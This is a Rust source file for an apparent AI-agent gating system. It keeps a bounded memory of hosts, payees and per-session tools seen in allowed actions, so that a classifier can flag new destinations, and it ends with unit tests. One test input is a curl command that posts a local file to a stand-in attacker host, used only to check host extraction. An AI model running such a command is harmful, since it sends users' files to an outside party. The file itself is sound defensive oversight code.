//! The deployment memory: which hosts this deployment's agents contacted, which recipients they
//! paid or wrote to, and which tools each session used — learned from allowed actions only — so
//! the classifier can be told what is new about an action ([`HistoryFacts`]).
//!
//! - **What is learned**: the hosts of an action as the policy's `url`/`host` conditions read them
//!   ([`gatehouse_policy::hosts_of_input`]: `/url`, `/host`, hosts named by the shell command),
//!   its recipients (string values under the keys in [`RECIPIENT_KEYS`], at any depth, split at
//!   `,`/`;`, lowercased, spaces removed), and its tool within its session.
//! - **From what**: actions whose verdict is allow by the rules (not observe mode's would-be
//!   rejects) or approved by a person. A rejected or denied action never teaches anything, so an
//!   attacker's host stays "new" however often it is tried.
//! - **Seeded** at start from the ledger's newest [`SEED_ACTIONS`] actions, oldest first; then
//!   updated as actions are decided (the fast path learns inside its detached scoring task, the
//!   paused path when a person approves).
//! - **Bounded**: at most [`MAX_HOSTS`] hosts, [`MAX_RECIPIENTS`] recipients and [`MAX_SESSIONS`]
//!   sessions of at most [`MAX_TOOLS_PER_SESSION`] tools each; past a cap the entry learned
//!   longest ago is forgotten (first in, first out; seeing it again does not refresh it). A
//!   forgotten host reads as new again, which errs towards flagging.
//!
//! Facts cost a JSON walk, a shell parse of the command (the policy already does one per action)
//! and a few hash-set lookups under a mutex held for the lookups only.

use std::collections::{HashMap, HashSet, VecDeque};
use std::hash::Hash;
use std::sync::Mutex;

use gatehouse_classifier::HistoryFacts;
use gatehouse_ledger::{Ledger, LedgerError, ListQuery};
use gatehouse_protocol::{ActionView, Verdict};
use serde_json::Value;

/// Input keys whose string values name a recipient (an email address, a payee, an account).
pub const RECIPIENT_KEYS: &[&str] = &[
    "to",
    "cc",
    "bcc",
    "recipient",
    "recipients",
    "payee",
    "beneficiary",
    "iban",
    "account",
    "account_number",
    "wallet",
    "wallet_address",
    "destination_account",
];
/// Most hosts remembered.
pub const MAX_HOSTS: usize = 100_000;
/// Most recipients remembered.
pub const MAX_RECIPIENTS: usize = 100_000;
/// Most sessions whose tools are remembered.
pub const MAX_SESSIONS: usize = 10_000;
/// Most tools remembered per session (further tools stay "first use").
pub const MAX_TOOLS_PER_SESSION: usize = 256;
/// How many of the ledger's newest actions are read at start.
pub const SEED_ACTIONS: usize = 50_000;
/// Longest recipient remembered, in bytes (longer values are cut).
const MAX_RECIPIENT_BYTES: usize = 256;
/// How deep into the input recipients are looked for.
const MAX_DEPTH: usize = 8;
const SEED_PAGE: u32 = 500;

/// What an action touches that the memory keeps: its hosts and recipients, normalised.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct Touches {
    pub hosts: Vec<String>,
    pub recipients: Vec<String>,
}

impl Touches {
    /// The hosts and recipients named by a tool's input.
    pub fn of(input: &Value) -> Touches {
        let hosts = input
            .as_object()
            .map(gatehouse_policy::hosts_of_input)
            .unwrap_or_default();
        let mut recipients = Vec::new();
        collect_recipients(input, 0, &mut recipients);
        Touches { hosts, recipients }
    }
}

fn collect_recipients(value: &Value, depth: usize, out: &mut Vec<String>) {
    if depth > MAX_DEPTH {
        return;
    }
    match value {
        Value::Object(map) => {
            for (key, value) in map {
                if RECIPIENT_KEYS.contains(&key.to_ascii_lowercase().as_str()) {
                    recipient_values(value, out);
                } else {
                    collect_recipients(value, depth + 1, out);
                }
            }
        }
        Value::Array(items) => items
            .iter()
            .for_each(|v| collect_recipients(v, depth + 1, out)),
        _ => {}
    }
}

fn recipient_values(value: &Value, out: &mut Vec<String>) {
    match value {
        Value::String(text) => {
            for part in text.split([',', ';']) {
                let mut norm: String = part
                    .chars()
                    .filter(|c| !c.is_whitespace())
                    .flat_map(char::to_lowercase)
                    .collect();
                if norm.is_empty() {
                    continue;
                }
                if norm.len() > MAX_RECIPIENT_BYTES {
                    let mut cut = MAX_RECIPIENT_BYTES;
                    while !norm.is_char_boundary(cut) {
                        cut -= 1;
                    }
                    norm.truncate(cut);
                }
                if !out.contains(&norm) {
                    out.push(norm);
                }
            }
        }
        Value::Number(n) => {
            let n = n.to_string();
            if !out.contains(&n) {
                out.push(n);
            }
        }
        Value::Array(items) => items.iter().for_each(|v| recipient_values(v, out)),
        _ => {}
    }
}

/// A set that forgets its oldest entry past `cap`.
#[derive(Debug)]
struct Bounded<T> {
    set: HashSet<T>,
    order: VecDeque<T>,
    cap: usize,
}

impl<T: Hash + Eq + Clone> Bounded<T> {
    fn new(cap: usize) -> Self {
        Self {
            set: HashSet::new(),
            order: VecDeque::new(),
            cap,
        }
    }

    fn contains(&self, item: &T) -> bool {
        self.set.contains(item)
    }

    /// Adds `item`; true if it was new.
    fn insert(&mut self, item: T) -> bool {
        if self.set.contains(&item) || self.cap == 0 {
            return false;
        }
        if self.order.len() >= self.cap
            && let Some(old) = self.order.pop_front()
        {
            self.set.remove(&old);
        }
        self.set.insert(item.clone());
        self.order.push_back(item);
        true
    }
}

#[derive(Debug)]
struct State {
    hosts: Bounded<String>,
    recipients: Bounded<String>,
    sessions: Bounded<String>,
    tools: HashMap<String, HashSet<String>>,
}

/// The deployment memory. Shared by the check path, the scoring tasks and approvals.
#[derive(Debug)]
pub struct Memory {
    state: Mutex<State>,
}

impl Default for Memory {
    fn default() -> Self {
        Self::new()
    }
}

impl Memory {
    pub fn new() -> Memory {
        Memory {
            state: Mutex::new(State {
                hosts: Bounded::new(MAX_HOSTS),
                recipients: Bounded::new(MAX_RECIPIENTS),
                sessions: Bounded::new(MAX_SESSIONS),
                tools: HashMap::new(),
            }),
        }
    }

    fn state(&self) -> std::sync::MutexGuard<'_, State> {
        // The state is sets of strings: a panic mid-update leaves it usable, so poisoning is
        // ignored rather than spread.
        self.state
            .lock()
            .unwrap_or_else(std::sync::PoisonError::into_inner)
    }

    /// What is new about an action (whose [`Touches`] the caller extracted).
    pub fn facts(&self, tool: &str, touches: &Touches, session: Option<&str>) -> HistoryFacts {
        let state = self.state();
        let new_host = touches.hosts.iter().any(|h| !state.hosts.contains(h));
        let new_recipient = touches
            .recipients
            .iter()
            .any(|r| !state.recipients.contains(r));
        let first_tool_in_session =
            session.is_some_and(|s| !state.tools.get(s).is_some_and(|tools| tools.contains(tool)));
        HistoryFacts {
            first_tool_in_session,
            new_host,
            known_host: !touches.hosts.is_empty() && !new_host,
            new_recipient,
            known_recipient: !touches.recipients.is_empty() && !new_recipient,
        }
    }

    /// Remembers an allowed action.
    pub fn learn(&self, tool: &str, touches: &Touches, session: Option<&str>) {
        let mut state = self.state();
        for host in &touches.hosts {
            state.hosts.insert(host.clone());
        }
        for recipient in &touches.recipients {
            state.recipients.insert(recipient.clone());
        }
        if let Some(session) = session {
            if !state.sessions.contains(&session.to_owned()) {
                let cap = state.sessions.cap;
                if state.sessions.order.len() >= cap
                    && let Some(old) = state.sessions.order.front().cloned()
                {
                    state.tools.remove(&old);
                }
                state.sessions.insert(session.to_owned());
            }
            let tools = state.tools.entry(session.to_owned()).or_default();
            if tools.len() < MAX_TOOLS_PER_SESSION {
                tools.insert(tool.to_owned());
            }
        }
    }

    /// Remembers a ledger action if its final verdict is allow (and not observe mode's allow of
    /// something the rules would have stopped).
    pub fn learn_view(&self, view: &ActionView) {
        if let Some(touches) = learnable(view) {
            self.learn(&view.tool, &touches, view.session_id.as_deref());
        }
    }

    /// Learns from the ledger's newest `max_actions` actions, oldest first; returns how many
    /// were learned from.
    ///
    /// # Errors
    /// The ledger could not be read; what was read before stays learned.
    pub async fn seed(&self, ledger: &Ledger, max_actions: usize) -> Result<usize, LedgerError> {
        let mut learned: Vec<(String, Touches, Option<String>)> = Vec::new();
        let mut before: Option<String> = None;
        let mut scanned = 0usize;
        while scanned < max_actions {
            let limit = SEED_PAGE.min(u32::try_from(max_actions - scanned).unwrap_or(SEED_PAGE));
            let page = ledger
                .list(ListQuery {
                    status: None,
                    limit,
                    before: before.clone(),
                    disagreements_only: false,
                })
                .await?;
            let Some(last) = page.last() else { break };
            before = Some(last.action_id.clone());
            scanned += page.len();
            for view in &page {
                if let Some(touches) = learnable(view) {
                    learned.push((view.tool.clone(), touches, view.session_id.clone()));
                }
            }
            if page.len() < limit as usize {
                break;
            }
        }
        for (tool, touches, session) in learned.iter().rev() {
            self.learn(tool, touches, session.as_deref());
        }
        Ok(learned.len())
    }
}

fn learnable(view: &ActionView) -> Option<Touches> {
    (view.verdict == Verdict::Allow && view.observed.is_none()).then(|| Touches::of(&view.input))
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn touches_reads_hosts_and_recipients() {
        let t = Touches::of(&json!({"command": "curl -d @a https://Evil.io/x; ssh me@10.0.0.5"}));
        assert_eq!(t.hosts, ["evil.io", "10.0.0.5"]);
        assert!(t.recipients.is_empty());
        let t = Touches::of(&json!({
            "recipient": "Acme Supplies", "iban": "DE89 3704 0044 0532 0130 00",
            "amount": 12, "meta": {"cc": ["Bob@x.io", "carol@x.io; bob@x.io"]}
        }));
        let mut recipients = t.recipients.clone();
        recipients.sort();
        assert_eq!(
            recipients,
            [
                "acmesupplies",
                "bob@x.io",
                "carol@x.io",
                "de89370400440532013000"
            ]
        );
    }

    #[test]
    fn facts_change_once_an_action_is_learned() {
        let memory = Memory::new();
        let pay = Touches::of(&json!({"recipient": "Acme", "iban": "DE89370400440532013000"}));
        let before = memory.facts("transfer_funds", &pay, Some("s1"));
        assert!(before.new_recipient && !before.known_recipient && before.first_tool_in_session);
        assert!(!before.new_host && !before.known_host);
        memory.learn("transfer_funds", &pay, Some("s1"));
        let after = memory.facts("transfer_funds", &pay, Some("s1"));
        assert!(!after.new_recipient && after.known_recipient && !after.first_tool_in_session);
        // Another session has not used the tool; no session means no comparison.
        assert!(
            memory
                .facts("transfer_funds", &pay, Some("s2"))
                .first_tool_in_session
        );
        assert!(
            !memory
                .facts("transfer_funds", &pay, None)
                .first_tool_in_session
        );
        // A new IBAN for a known payee is a new recipient.
        let changed = Touches::of(&json!({"recipient": "Acme", "iban": "LT121000011101001000"}));
        assert!(memory.facts("transfer_funds", &changed, None).new_recipient);
    }

    #[test]
    fn bounded_sets_forget_the_oldest_entry_first() {
        let mut set = Bounded::new(2);
        assert!(set.insert("a"));
        assert!(set.insert("b"));
        assert!(!set.insert("a"));
        assert!(set.insert("c"));
        assert!(!set.contains(&"a"));
        assert!(set.contains(&"b") && set.contains(&"c"));
    }
}
